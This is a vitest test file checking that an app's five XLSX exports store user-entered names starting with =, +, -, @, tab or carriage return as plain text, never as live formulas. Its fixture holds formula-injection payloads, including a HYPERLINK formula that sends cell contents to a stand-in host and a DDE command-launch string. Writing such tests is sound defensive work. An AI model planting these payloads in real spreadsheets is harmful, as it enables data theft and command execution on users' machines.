// Every XLSX export of the app, end to end, with the names users typed starting like a formula:
// =, +, -, @, a tab, a carriage return. No cell of any export is a formula, and no text cell
// begins with one of those characters: each is written with Excel's leading apostrophe, so it
// shows and stays text (formula-safe.ts). The exports: the plan sheet, the fund statement, the
// season route schedule, the district report and the ranking.
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeFund } from './helpers/fund.js';
import { makePlanWorld, SATURDAY, type PlanWorld } from './helpers/plans.js';
import { setupApp, type TestApp } from './helpers/test-app.js';

/** A name for each of the six starts, on the records the exports list. */
const HOSTILE = {
  tanNam: '=HYPERLINK("http://x.example/?"&A1,"Tân Nam")',
  yenThanh: '+1+1 Yên Thành',
  groupA: '-2+3 Nhóm 1',
  groupB: '@SUM(A1:A2) Nhóm 2',
  leadA: '\t=1+1 Văn phòng Huyện ủy',
  leadB: '\r=2+2 Ban Tổ chức Huyện ủy',
  roadA: "=cmd|' /C calc'!A0 Đường trục thôn",
};
const FORMULA_START = /^[=+\-@\t\r\n]/; // XML reads a carriage return back as a line feed

let t: TestApp;
let w: PlanWorld;
let planId: number;
let fundId: number;

beforeAll(async () => {
  t = await setupApp();
  w = await makePlanWorld(t.db);
  fundId = (await makeFund(t.db, w)).id;
  await t.db.updateTable('admin_units').set({ name: HOSTILE.tanNam }).where('id', '=', w.units.tanNam.id).execute();
  await t.db.updateTable('admin_units').set({ name: HOSTILE.yenThanh }).where('id', '=', w.units.yenThanh.id).execute();
  await t.db.updateTable('groups').set({ name: HOSTILE.groupA }).where('id', '=', w.groups.groupA.id).execute();
  await t.db.updateTable('groups').set({ name: HOSTILE.groupB }).where('id', '=', w.groups.groupB.id).execute();
  await t.db.updateTable('agencies').set({ name: HOSTILE.leadA }).where('id', '=', w.agencies.leadA.id).execute();
  await t.db.updateTable('agencies').set({ name: HOSTILE.leadB }).where('id', '=', w.agencies.leadB.id).execute();
  await t.db.updateTable('roads').set({ name: HOSTILE.roadA }).where('id', '=', w.roadA.id).execute();
  // The plan and the season schedule keep the names as they were when made: made after the renaming.
  const c = await t.as('coordinator');
  planId = (await c.post(`/api/v1/campaigns/${w.campaign.id}/plans`, { day: SATURDAY })).body.id;
  expect((await c.post(`/api/v1/plans/${planId}/entries`, { groupId: w.groups.groupA.id, communeId: w.units.tanNam.id, segmentIds: [w.roadA.segmentIds[0]], headcount: 24, targetVolumeM3: 12,
    meetingTime: '07:00', meetingPlace: '=Nhà văn hóa thôn Nặm Khẳm' })).status).toBe(201);
  expect((await c.post(`/api/v1/campaigns/${w.campaign.id}/season-plan/solve`, {})).status).toBeLessThan(300);
}, 180_000);

async function cellsOf(url: string, user = 'coordinator') {
  const res = await t.app.request(url, { headers: { cookie: (await t.as(user)).cookie! } });
  expect(res.status, url).toBe(200);
  expect(res.headers.get('content-type')).toContain('spreadsheetml');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(await res.arrayBuffer());
  const cells: Array<{ value: unknown; formula: boolean }> = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => { cells.push({ value: cell.value, formula: cell.type === ExcelJS.ValueType.Formula }); })));
  const texts = cells.map((c) => (typeof c.value === 'string' ? c.value : c.value && typeof c.value === 'object' && 'richText' in c.value
    ? (c.value as ExcelJS.CellRichTextValue).richText.map((r) => r.text).join('') : null)).filter((v): v is string => v !== null);
  return { formulas: cells.filter((c) => c.formula).length, texts };
}

describe('XLSX exports hold no live formula', () => {
  const exports = {
    'plan sheet': () => `/api/v1/plans/${planId}/sheet.xlsx?number=15/KH-VPĐP&date=2021-10-20`,
    'fund statement': () => `/api/v1/funds/${fundId}/statement.xlsx?number=12/BC-VPĐP&date=2021-10-04&header=party`,
    'season route schedule': () => `/api/v1/campaigns/${w.campaign.id}/season-plan/export?format=xlsx`,
    'district report': () => `/api/v1/campaigns/${w.campaign.id}/district-report/export?kind=week&start=2021-10-18&format=xlsx`,
    ranking: () => `/api/v1/campaigns/${w.campaign.id}/ranking/export`,
  };
  for (const [name, url] of Object.entries(exports)) {
    it(`the ${name}: every name starting =, +, -, @, tab or CR stays text`, async () => {
      const { formulas, texts } = await cellsOf(url(), name === 'ranking' || name === 'district report' ? 'leader' : 'coordinator');
      expect(formulas).toBe(0);
      expect(texts.filter((s) => FORMULA_START.test(s))).toEqual([]);
      // Each export lists at least one of the hostile names, written with the apostrophe in front.
      const shown = Object.values(HOSTILE).filter((h) => texts.some((s) => s.includes(`'${h.replace('\r', '\n')}`)));
      expect(shown.length, `${name}: ${JSON.stringify([...new Set(texts)].slice(0, 60))}`).toBeGreaterThan(0);
    });
  }
});
